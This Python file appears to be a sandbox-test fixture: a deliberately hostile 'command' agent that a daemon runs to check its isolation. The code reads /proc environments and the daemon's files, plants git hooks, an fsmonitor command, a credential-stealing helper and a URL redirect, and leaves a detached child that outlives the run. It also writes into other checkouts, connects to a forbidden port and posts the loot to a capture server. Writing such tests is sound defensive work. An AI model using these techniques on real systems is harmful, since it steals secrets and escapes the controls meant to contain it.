"""A hostile ``command`` agent: it tries everything it can to steal or persist, then reports.

Run by the daemon as ``python hostile_agent.py {workdir}``. What it knows comes
from its (non-secret) environment, as an attacker would learn it from the host:

- ``HOSTILE_LOOK``: colon-separated paths to read everything under (config,
  database, volume, the daemon's HOME);
- ``HOSTILE_CAPTURE``: the attacker's server, where it posts its loot and
  points git at;
- ``HOSTILE_FORBIDDEN_PORT``: a loopback port not on its allowlist;
- ``HOSTILE_OTHER``: another repository's checkout to write into;
- ``HOSTILE_VOLUME``: the volume root to write into;
- ``HOSTILE_MARKERS``: a host directory a planted hook or fsmonitor would write to
  if the daemon ever ran it.

It records each attempt's outcome in ``hostile-report.json`` and everything it
read in ``loot.txt`` (both in the worktree, so the run commits and pushes them:
anything it stole would reach the remote), prints a summary, and exits 0.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
import urllib.request
from pathlib import Path

LATE_NAME = "afk-hostile-late-child"
MAX_FILE_BYTES = 256 * 1024


def attempt(report: dict[str, str], name: str, action: object) -> None:
    """Run one attack; record "ok: ..." or "failed: ...", never raise."""
    try:
        result = action()  # type: ignore[operator]
        report[name] = f"ok: {str(result)[:200]}"
    except Exception as exc:
        report[name] = f"failed: {type(exc).__name__}: {str(exc)[:200]}"


def read_processes(loot: list[str]) -> int:
    count = 0
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            for name in ("environ", "cmdline"):
                try:
                    loot.append((entry / name).read_bytes().decode("utf-8", "replace"))
                    count += 1
                except OSError:
                    continue
    return count


def read_everything(roots: list[str], loot: list[str]) -> int:
    count = 0
    for root in roots:
        for directory, _, files in os.walk(root):
            for name in files:
                try:
                    with open(os.path.join(directory, name), "rb") as handle:
                        loot.append(handle.read(MAX_FILE_BYTES).decode("utf-8", "replace"))
                    count += 1
                except OSError:
                    continue
    return count


def git(*args: str) -> str:
    done = subprocess.run(["git", *args], capture_output=True, text=True, check=False)
    if done.returncode != 0:
        raise RuntimeError(done.stderr.strip()[-200:])
    return done.stdout.strip()


def append(path: Path, text: str) -> str:
    with open(path, "a", encoding="utf-8") as handle:
        handle.write(text)
    return str(path)


def plant_git(report: dict[str, str], workdir: Path, capture: str, markers: str) -> None:
    """Everything that would run code in, or redirect, the daemon's own git."""
    remote = git("remote", "get-url", "origin") if (workdir / ".git").exists() else ""
    common = Path(git("rev-parse", "--path-format=absolute", "--git-common-dir"))
    hook = f"#!/bin/sh\ntouch {markers}/hook-ran\n"
    attempt(
        report,
        "plant_insteadof",
        lambda: git("config", "--local", f"url.{capture}/.insteadOf", remote or "http"),
    )
    attempt(
        report,
        "plant_fsmonitor",
        lambda: git("config", "--local", "core.fsmonitor", f"touch {markers}/fsmonitor-ran"),
    )
    attempt(report, "plant_hookspath", lambda: git("config", "--local", "core.hooksPath", markers))
    attempt(
        report,
        "plant_credential_helper",
        lambda: git(
            "config", "--local", "credential.helper", f"!f() {{ cat > {markers}/cred; }}; f"
        ),
    )
    attempt(
        report,
        "plant_config_file",
        lambda: append(
            common / "config", f'[url "{capture}/"]\n\tinsteadOf = {remote or "http"}\n'
        ),
    )
    for name in ("pre-push", "post-checkout", "reference-transaction", "pre-commit"):
        target = common / "hooks" / name
        attempt(report, f"plant_hook_{name}", lambda target=target: append(target, hook))
    attempt(
        report,
        "plant_alternates",
        lambda: append(common / "objects" / "info" / "alternates", "/\n"),
    )
    attempt(report, "plant_gitfile", lambda: append(workdir / ".git", "\ngitdir: /tmp/evil\n"))
    attempt(
        report,
        "plant_commondir",
        lambda: append(
            Path(git("rev-parse", "--path-format=absolute", "--git-dir")) / "commondir", "/tmp\n"
        ),
    )


def leave_late_child(workdir: Path) -> int:
    """A detached child that writes a marker into the worktree 20 s from now."""
    script = f"import time; time.sleep(20); open({str(workdir / 'late-marker.txt')!r}, 'w')"
    child = subprocess.Popen(
        [sys.executable, "-c", script, LATE_NAME],
        start_new_session=True,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    return child.pid


def direct_connect(port: int) -> str:
    with socket.create_connection(("127.0.0.1", port), timeout=5):
        return "connected"


def http_get(url: str) -> str:
    with urllib.request.urlopen(url, timeout=10) as response:
        return str(response.status)


def post_loot(url: str, loot: list[str]) -> str:
    body = "\n".join(loot).encode("utf-8", "replace")[:2_000_000]
    request = urllib.request.Request(url, data=body, method="POST")
    with urllib.request.urlopen(request, timeout=10) as response:
        return str(response.status)


def main() -> int:
    workdir = Path(sys.argv[1])
    os.chdir(workdir)
    env = os.environ
    report: dict[str, str] = {}
    loot: list[str] = [json.dumps(dict(env))]
    attempt(report, "read_processes", lambda: read_processes(loot))
    roots = [p for p in env.get("HOSTILE_LOOK", "").split(":") if p]
    attempt(report, "read_files", lambda: read_everything(roots, loot))
    plant_git(report, workdir, env["HOSTILE_CAPTURE"], env["HOSTILE_MARKERS"])
    attempt(
        report,
        "write_volume_root",
        lambda: append(Path(env["HOSTILE_VOLUME"]) / "planted.txt", "x"),
    )
    attempt(
        report,
        "write_other_checkout",
        lambda: append(Path(env["HOSTILE_OTHER"]) / "planted.txt", "x"),
    )
    attempt(report, "late_child", lambda: leave_late_child(workdir))
    port = int(env["HOSTILE_FORBIDDEN_PORT"])
    attempt(report, "connect_forbidden_direct", lambda: direct_connect(port))
    attempt(report, "connect_forbidden_http", lambda: http_get(f"http://127.0.0.1:{port}/x"))
    attempt(report, "post_loot", lambda: post_loot(env["HOSTILE_CAPTURE"] + "/loot", loot))
    (workdir / "hostile-report.json").write_text(json.dumps(report, indent=1) + "\n")
    (workdir / "loot.txt").write_text("\n".join(loot), encoding="utf-8", errors="replace")
    for name, outcome in sorted(report.items()):
        print(f"{name}: {outcome[:120]}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
